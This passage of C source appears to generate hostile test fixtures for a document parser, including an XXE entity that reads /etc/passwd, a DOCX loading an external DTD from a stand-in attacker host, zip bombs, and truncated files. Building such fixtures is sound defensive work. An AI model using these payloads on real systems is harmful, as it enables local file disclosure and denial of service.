    DOCX_HEAD "<!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
    DOCX_ROOT "<w:p><w:r><w:t>Article 1 – Scope &xxe;</w:t></w:r></w:p>" DOCX_TAIL;
  static const char *dtd =
    DOCX_HEAD "<!DOCTYPE w:document SYSTEM \"http://attacker.invalid/evil.dtd\">\n"
    DOCX_ROOT "<w:p><w:r><w:t>Article 1 – Scope</w:t></w:r></w:p>" DOCX_TAIL;
  g_autoptr(GString) pdf = encrypted_pdf ();
  g_autofree char *bomb = g_build_filename (directory, "bomb.docx", NULL);
  g_autofree char *ratio = g_build_filename (directory, "bomb-ratio.docx", NULL);
  g_autofree char *xxe_path = g_build_filename (directory, "xxe.docx", NULL);
  g_autofree char *dtd_path = g_build_filename (directory, "external-dtd.docx", NULL);
  g_autofree char *en = g_build_filename (directory, "..", "managed-en.pdf", NULL);
  g_autofree char *en_docx = g_build_filename (directory, "..", "managed-en.docx", NULL);
  g_autofree char *cut_pdf = g_build_filename (directory, "truncated.pdf", NULL);
  g_autofree char *cut_docx = g_build_filename (directory, "truncated.docx", NULL);

  write_bomb (bomb, (gsize) 256 * 1024 * 1024);
  write_bomb (ratio, (gsize) 8 * 1024 * 1024);
  write_docx_part (xxe_path, xxe, strlen (xxe));
  write_docx_part (dtd_path, dtd, strlen (dtd));
  write_file (directory, "password.pdf", pdf->str, pdf->len);
  write_truncated (en, cut_pdf);
  write_truncated (en_docx, cut_docx);
}

int
main (int    argc,
      char **argv)
{
  if (argc == 4 && g_str_equal (argv[1], "render"))
    render (argv[2], argv[3]);
  else if (argc == 3 && g_str_equal (argv[1], "hostile"))
    write_hostile (argv[2]);
  else
    {
      g_printerr ("usage: %s render SOURCE.src OUTPUT-STEM | hostile DIRECTORY\n", argv[0]);
      return 2;
    }
  return 0;
}
